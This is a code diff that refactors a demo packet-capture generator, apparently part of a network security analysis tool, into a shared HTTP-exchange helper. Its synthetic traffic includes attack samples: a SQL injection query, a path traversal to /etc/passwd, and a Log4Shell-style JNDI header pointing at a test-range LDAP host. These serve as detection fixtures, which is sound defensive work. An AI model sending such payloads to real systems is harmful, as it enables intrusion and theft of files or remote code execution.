@@ -172,30 +172,22 @@ export function makeDemoCapture(): RawFrame[] {
   const clock = new Clock(frames);
   const web = '198.18.0.10';
   const gap = (): void => clock.advance(50_000);
+  // A fresh connection carrying one request and its response, then closed.
+  const httpExchange = (ep: Endpoints, isn: number, request: string, response: string): void => {
+    new TcpSession(clock, ep, isn).handshake().send(true, request).send(false, response).close();
+  };
 
-  new TcpSession(clock, { client: '198.18.0.1', server: web, clientPort: 41000, serverPort: 80 }, 1000)
-    .handshake()
-    .send(true, httpGet('shop.example', '/index.html'))
-    .send(false, httpResponse('200 OK', '<html><body>welcome</body></html>'))
-    .close();
+  httpExchange({ client: '198.18.0.1', server: web, clientPort: 41000, serverPort: 80 }, 1000,
+    httpGet('shop.example', '/index.html'), httpResponse('200 OK', '<html><body>welcome</body></html>'));
   gap();
-  new TcpSession(clock, { client: '198.18.0.2', server: web, clientPort: 41001, serverPort: 80 }, 2000)
-    .handshake()
-    .send(true, httpGet('shop.example', "/search?q=1' OR '1'='1' --"))
-    .send(false, httpResponse('400 Bad Request', 'bad request'))
-    .close();
+  httpExchange({ client: '198.18.0.2', server: web, clientPort: 41001, serverPort: 80 }, 2000,
+    httpGet('shop.example', "/search?q=1' OR '1'='1' --"), httpResponse('400 Bad Request', 'bad request'));
   gap();
-  new TcpSession(clock, { client: '198.18.0.3', server: web, clientPort: 41002, serverPort: 80 }, 3000)
-    .handshake()
-    .send(true, httpGet('shop.example', '/static/../../etc/passwd'))
-    .send(false, httpResponse('404 Not Found', 'not found'))
-    .close();
+  httpExchange({ client: '198.18.0.3', server: web, clientPort: 41002, serverPort: 80 }, 3000,
+    httpGet('shop.example', '/static/../../etc/passwd'), httpResponse('404 Not Found', 'not found'));
   gap();
-  new TcpSession(clock, { client: '198.18.0.4', server: web, clientPort: 41003, serverPort: 80 }, 4000)
-    .handshake()
-    .send(true, httpGet('shop.example', '/login', 'X-Api-Version: ${jndi:ldap://198.18.9.9/a}\r\n'))
-    .send(false, httpResponse('200 OK', 'ok'))
-    .close();
+  httpExchange({ client: '198.18.0.4', server: web, clientPort: 41003, serverPort: 80 }, 4000,
+    httpGet('shop.example', '/login', 'X-Api-Version: ${jndi:ldap://198.18.9.9/a}\r\n'), httpResponse('200 OK', 'ok'));
   gap();
   const split = httpGet('shop.example', '/account?id=42', 'Cookie: session=demo\r\n');
   new TcpSession(clock, { client: '198.18.0.5', server: web, clientPort: 41004, serverPort: 80 }, 5000)
@@ -233,23 +225,14 @@ export function makeDemoCapture(): RawFrame[] {
   clock.emit(buildPacket({ src: '2001:db8::10', dst: '2001:db8::1', proto: 'icmp', icmpType: 129, ipId: 0x78, payload: 'secuxflow-ping6', srcMac: SERVER_MAC, dstMac: CLIENT_MAC }));
   gap();
 
-  new TcpSession(clock, { client: '2001:db8::1', server: '2001:db8::10', clientPort: 41007, serverPort: 80 }, 8000)
-    .handshake()
-    .send(true, httpGet('v6.example', '/'))
-    .send(false, httpResponse('200 OK', 'hello over IPv6'))
-    .close();
+  httpExchange({ client: '2001:db8::1', server: '2001:db8::10', clientPort: 41007, serverPort: 80 }, 8000,
+    httpGet('v6.example', '/'), httpResponse('200 OK', 'hello over IPv6'));
   gap();
-  new TcpSession(clock, { client: '198.18.0.8', server: web, clientPort: 41008, serverPort: 80, vlans: [100] }, 9000)
-    .handshake()
-    .send(true, httpGet('vlan.example', '/tagged'))
-    .send(false, httpResponse('200 OK', 'vlan 100'))
-    .close();
+  httpExchange({ client: '198.18.0.8', server: web, clientPort: 41008, serverPort: 80, vlans: [100] }, 9000,
+    httpGet('vlan.example', '/tagged'), httpResponse('200 OK', 'vlan 100'));
   gap();
-  new TcpSession(clock, { client: '198.18.0.9', server: web, clientPort: 41009, serverPort: 80, vlans: [200, 300] }, 10000)
-    .handshake()
-    .send(true, httpGet('qinq.example', '/double-tagged'))
-    .send(false, httpResponse('200 OK', 'qinq 200/300'))
-    .close();
+  httpExchange({ client: '198.18.0.9', server: web, clientPort: 41009, serverPort: 80, vlans: [200, 300] }, 10000,
+    httpGet('qinq.example', '/double-tagged'), httpResponse('200 OK', 'qinq 200/300'));
   gap();
 
   const bigUdp = buildPacket({ src: '198.18.0.11', dst: '198.18.0.12', proto: 'udp', srcPort: 5000, dstPort: 5001, ipId: 0x4242, payload: 'F'.repeat(2400), srcMac: CLIENT_MAC, dstMac: SERVER_MAC });
